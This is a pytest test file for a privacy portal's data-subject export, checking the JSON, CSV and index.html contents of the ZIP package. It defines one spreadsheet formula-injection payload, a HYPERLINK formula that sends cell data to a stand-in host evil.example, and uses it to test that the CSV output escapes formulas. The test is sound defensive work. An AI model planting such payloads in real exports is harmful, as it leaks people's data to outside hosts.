from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, datetime

import pytest

from privacyportal.registry import ErasureResult, Outcome, SourceInfo, registry
from privacyportal.subjects.tests.factories import DeviceFactory
from requests_app.fulfilment.export import SCHEMA, build_export

pytestmark = pytest.mark.django_db
PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"click")'


class CallLog:
    """A large tabular source that yields rows lazily, like a real one."""

    key, label = "test.calls", "Call records"
    info = SourceInfo(
        categories=("call records",),
        purposes=("billing",),
        recipients=("payment processor",),
        retention="13 months",
        origin="our conference servers",
    )

    def __init__(self, n: int) -> None:
        self.n, self.exports = n, 0

    def export(self, subject):
        self.exports += 1
        rows = ({"id": i, "minutes": i % 90, "tags": ["a", "b"]} for i in range(self.n))
        return {"calls": rows, "note": "generated"}

    def erase(self, subject, *, actor):
        return ErasureResult(Outcome.NOTHING)


def open_package(path):
    archive = zipfile.ZipFile(path)
    return archive, json.loads(archive.read("data.json"))


def test_package_has_one_section_per_source_and_versioned_schema(tmp_path):
    device = DeviceFactory(serial_number="SN-77")
    manifest = build_export(
        subject=device.subject, path=tmp_path / "p.zip", reference="PR-2026-000001"
    )
    archive, data = open_package(manifest.path)
    assert data["schema"] == SCHEMA and data["request"] == "PR-2026-000001"
    assert set(data["sources"]) == set(registry.keys())
    profile = data["sources"]["subjects.profile"]["data"]
    assert profile["profile"]["email"] == device.subject.email
    assert profile["devices"][0]["serial_number"] == "SN-77"
    assert "csv/subjects.profile.devices.csv" in archive.namelist()
    assert "index.html" in archive.namelist()


def test_tabular_categories_become_csv_and_counts_reach_the_summary(tmp_path):
    device = DeviceFactory()
    source = CallLog(2500)
    manifest = build_export(
        subject=device.subject,
        path=tmp_path / "p.zip",
        reference="PR-1",
        sources=[source],
    )
    archive, data = open_package(manifest.path)
    calls = data["sources"]["test.calls"]["data"]["calls"]
    assert len(calls) == 2500 and calls[10] == {
        "id": 10,
        "minutes": 10,
        "tags": ["a", "b"],
    }
    rows = list(
        csv.DictReader(io.StringIO(archive.read("csv/test.calls.calls.csv").decode()))
    )
    assert len(rows) == 2500 and rows[3]["tags"] == '["a", "b"]'
    assert manifest.sources[0].counts == {"calls": 2500}
    assert source.exports == 1  # one pass: JSON and CSV written together


class PlantedRows(CallLog):
    """Rows whose text a spreadsheet would run, beside a timestamp."""

    key = "test.planted"

    def export(self, subject):
        at = datetime(2026, 3, 1, 9, 30, tzinfo=UTC)
        return {"sessions": iter([{"agent": PLANTED, "at": at, "tags": ["a"]}])}


def test_csv_cells_show_formulas_as_text_and_timestamps_without_quotes(tmp_path):
    manifest = build_export(
        subject=DeviceFactory().subject,
        path=tmp_path / "p.zip",
        reference="PR-2",
        sources=[PlantedRows(1)],
    )
    archive, data = open_package(manifest.path)
    text = archive.read("csv/test.planted.sessions.csv").decode()
    (row,) = csv.DictReader(io.StringIO(text))
    assert row == {
        "agent": "'" + PLANTED,
        "at": "2026-03-01T09:30:00+00:00",
        "tags": '["a"]',
    }
    # data.json is not opened by a spreadsheet: it keeps what the source gave.
    assert data["sources"]["test.planted"]["data"]["sessions"][0]["agent"] == PLANTED


def test_index_html_gives_the_article_15_information(tmp_path):
    device = DeviceFactory()
    manifest = build_export(
        subject=device.subject,
        path=tmp_path / "p.zip",
        reference="PR-9",
        sources=[CallLog(3)],
    )
    index = zipfile.ZipFile(manifest.path).read("index.html").decode()
    for expected in (
        "billing",
        "payment processor",
        "13 months",
        "our conference servers",
        "How to complain",
        "3 records.",
        "PR-9",
    ):
        assert expected in index
